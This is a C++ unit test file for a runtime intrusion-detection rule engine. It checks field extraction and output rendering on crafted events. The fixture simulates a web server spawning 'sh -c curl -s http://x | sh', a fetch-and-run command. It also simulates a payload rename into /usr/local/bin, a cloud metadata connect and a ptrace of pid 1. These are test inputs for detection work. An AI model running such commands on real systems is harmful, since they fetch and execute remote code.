// Every field of the table on crafted events and a process tree (nginx -> sh -> curl), and output rendering.
#include <gtest/gtest.h>

#include <string>

#include "rules_test_util.hpp"
#include "watch/rules.hpp"

namespace vigil::watch {
namespace {

using model::EventType;

class FieldsTest : public ::testing::Test {
 protected:
  FieldsTest() {
    tree_.apply(testing::exec_event(100, 1, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}));
    tree_.apply(testing::fork_event(100, 200, "nginx"));
    tree_.apply(testing::exec_event(200, 100, "/bin/sh", {"sh", "-c", "curl -s http://x | sh"}));
    tree_.apply(testing::fork_event(200, 300, "sh"));
    exec_ = testing::exec_event(300, 200, "/usr/bin/curl", {"curl", "-s", "http://x"});
    exec_.uid = 33;
    exec_.gid = 33;
    exec_.cgroup_id = 4711;
    exec_.cwd = "/var/www";
    exec_.env = {"HOME=/var/www", "PATH"};
    exec_.ret = 0;
    tree_.apply(exec_);
  }
  std::string text(std::string_view field, const model::Event& e) { return field_text(field, {e, tree_}); }

  ProcessTree tree_;
  model::Event exec_;
};

TEST_F(FieldsTest, ProcessFieldsFromTheTree) {
  EXPECT_EQ(text("evt.type", exec_), "execve");
  EXPECT_EQ(text("evt.time", exec_), "1700000000000000000");
  EXPECT_EQ(text("evt.res", exec_), "0");
  EXPECT_EQ(text("proc.pid", exec_), "300");
  EXPECT_EQ(text("proc.ppid", exec_), "200");
  EXPECT_EQ(text("proc.name", exec_), "curl");
  EXPECT_EQ(text("proc.exe", exec_), "/usr/bin/curl");
  EXPECT_EQ(text("proc.cmdline", exec_), "curl -s http://x");
  EXPECT_EQ(text("proc.args", exec_), "-s http://x");
  EXPECT_EQ(text("proc.cwd", exec_), "/var/www");
  EXPECT_EQ(text("proc.env", exec_), "HOME PATH");
  EXPECT_EQ(text("proc.env[HOME]", exec_), "/var/www");
  EXPECT_EQ(text("proc.env[PATH]", exec_), "");
  EXPECT_EQ(text("proc.pname", exec_), "sh");
  EXPECT_EQ(text("proc.pexe", exec_), "/bin/sh");
  EXPECT_EQ(text("proc.pcmdline", exec_), "sh -c curl -s http://x | sh");
  EXPECT_EQ(text("proc.aname[1]", exec_), "sh");
  EXPECT_EQ(text("proc.aname[2]", exec_), "nginx");
  EXPECT_EQ(text("proc.aexe[2]", exec_), "/usr/sbin/nginx");
  EXPECT_EQ(text("proc.aname[9]", exec_), "");
  EXPECT_EQ(text("user.uid", exec_), "33");
  EXPECT_EQ(text("user.gid", exec_), "33");
  EXPECT_EQ(text("cgroup.id", exec_), "4711");
  EXPECT_EQ(text("container.id", exec_), "");
}

TEST_F(FieldsTest, UnknownProcessFallsBackOnTheEvent) {
  const ProcessTree empty;
  const auto e = testing::exec_event(999, 1, "/tmp/x", {"x", "--go"});
  EXPECT_EQ(field_text("proc.exe", {e, empty}), "/tmp/x");
  EXPECT_EQ(field_text("proc.cmdline", {e, empty}), "x --go");
  EXPECT_EQ(field_text("proc.ppid", {e, empty}), "1");
  EXPECT_EQ(field_text("proc.pname", {e, empty}), "");
}

TEST_F(FieldsTest, FileFields) {
  model::Event e;
  e.type = EventType::Rename;
  e.pid = 300;
  e.path = "/tmp/a/payload";
  e.new_path = "/usr/local/bin/payload";
  EXPECT_EQ(text("fd.name", e), "/tmp/a/payload");
  EXPECT_EQ(text("fd.directory", e), "/tmp/a");
  EXPECT_EQ(text("fd.filename", e), "payload");
  EXPECT_EQ(text("fd.newname", e), "/usr/local/bin/payload");
  e.type = EventType::Open;
  e.flags = 0x80000 | 0x2;  // O_RDWR|O_CLOEXEC
  EXPECT_EQ(text("evt.flags", e), "O_RDWR|O_CLOEXEC");
  EXPECT_EQ(text("fd.newname", e), "");
  e.type = EventType::MemfdCreate;
  e.flags = 1;
  EXPECT_EQ(text("evt.flags", e), "MFD_CLOEXEC");
  e.type = EventType::ExecMmap;
  e.flags = 5;
  EXPECT_EQ(text("evt.flags", e), "PROT_READ|PROT_EXEC");
  e.type = EventType::Connect;
  EXPECT_EQ(text("fd.name", e), "");  // sockets have net.* fields instead
}

TEST_F(FieldsTest, NetworkAndOtherFields) {
  model::Event e;
  e.type = EventType::Connect;
  e.pid = 300;
  e.family = model::SocketFamily::Inet;
  e.saddr = "10.0.0.5";
  e.sport = 41000;
  e.daddr = "169.254.169.254";
  e.dport = 80;
  EXPECT_EQ(text("net.dip", e), "169.254.169.254");
  EXPECT_EQ(text("net.dport", e), "80");
  EXPECT_EQ(text("net.sip", e), "10.0.0.5");
  EXPECT_EQ(text("net.sport", e), "41000");
  EXPECT_EQ(text("net.family", e), "inet");
  e.family = model::SocketFamily::Unix;
  e.unix_path = "/run/docker.sock";
  EXPECT_EQ(text("net.unix_path", e), "/run/docker.sock");
  EXPECT_EQ(text("net.family", e), "unix");

  model::Event p;
  p.type = EventType::Ptrace;
  p.target_pid = 1;
  p.request = 16;
  EXPECT_EQ(text("ptrace.target_pid", p), "1");
  EXPECT_EQ(text("ptrace.request", p), "16");
  EXPECT_EQ(text("net.dport", p), "");
  model::Event f = testing::fork_event(300, 301, "curl");
  EXPECT_EQ(text("evt.child_pid", f), "301");
  model::Event x;
  x.type = EventType::Exit;
  x.exit_code = 137;
  EXPECT_EQ(text("evt.exit_code", x), "137");
  EXPECT_EQ(text("evt.child_pid", x), "");
}

TEST(Fields, KnownFieldNames) {
  for (const char* ok : {"proc.name", "proc.aname[1]", "proc.aexe[64]", "proc.env", "proc.env[LD_PRELOAD]", "net.dport",
                         "evt.exit_code"}) {
    EXPECT_TRUE(is_known_field(ok)) << ok;
  }
  for (const char* bad : {"proc.nam", "proc.aname", "proc.aname[0]", "proc.aname[65]", "proc.aname[x]", "proc.env[A B]",
                          "proc.name[1]", "proc.env[", "", "threshold.count"}) {
    EXPECT_FALSE(is_known_field(bad)) << bad;
  }
}

TEST_F(FieldsTest, RenderOutput) {
  Rule rule;
  rule.output = "%proc.name ran %proc.cmdline under %proc.aname[2] (uid %user.uid). %nosuch.field %% 100%";
  EXPECT_EQ(render_output(rule, {exec_, tree_}),
            "curl ran curl -s http://x under nginx (uid 33). %nosuch.field %% 100%");
  rule.output = "%proc.name failed %threshold.count connects in %threshold.within; wrote %file.";
  const Bindings b = {{"threshold.count", "20"}, {"threshold.within", "10s"}, {"file", "/tmp/x"}};
  EXPECT_EQ(render_output(rule, {exec_, tree_, &b}), "curl failed 20 connects in 10s; wrote /tmp/x.");
  rule.output = "%proc.name";  // a binding never hides a field
  const Bindings shadow = {{"proc.name", "fake"}};
  EXPECT_EQ(render_output(rule, {exec_, tree_, &shadow}), "curl");
  rule.output = "%";
  EXPECT_EQ(render_output(rule, {exec_, tree_}), "%");
  rule.output = "%proc.env[HOME";
  EXPECT_EQ(render_output(rule, {exec_, tree_}), "HOME PATH[HOME");  // the field, then the text
}

}  // namespace
}  // namespace vigil::watch
